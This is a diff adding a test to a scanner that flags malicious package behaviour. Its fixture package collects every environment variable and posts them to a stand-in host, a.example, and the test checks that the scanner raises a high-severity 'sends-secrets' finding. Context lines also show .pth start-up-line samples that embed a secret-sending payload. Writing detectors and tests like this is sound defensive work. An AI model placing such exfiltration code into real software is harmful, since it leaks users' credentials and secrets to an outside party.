@@ -227,3 +227,18 @@ def test_start_up_lines_are_read_in_both_ways(behaviour: BehaviourScanner, tmp_p
     for number, text in enumerate((f"import a; x = '\x0c'; {sends}\n", f"./a\x0c{sends}\n")):
         found = scan(behaviour, tmp_path / str(number), {"sample.pth": text})
         assert "sends-secrets" in {each.rule for each in found}
+
+
+def test_a_file_that_only_brings_two_modules_together_is_looked_at(
+    behaviour: BehaviourScanner, tmp_path: Path
+) -> None:
+    files = {
+        "sample/__init__.py": "from .a import gather\nfrom .b import deliver\ndeliver(gather())\n",
+        "sample/a.py": "import os\ndef gather():\n    return dict(os.environ)\n",
+        "sample/b.py": "import requests\ndef deliver(data):\n"
+        "    requests.post('https://a.example', json=data)\n",
+    }
+
+    (found,) = scan(behaviour, tmp_path, files)
+
+    assert (found.rule, found.severity) == ("sends-secrets", Severity.HIGH)
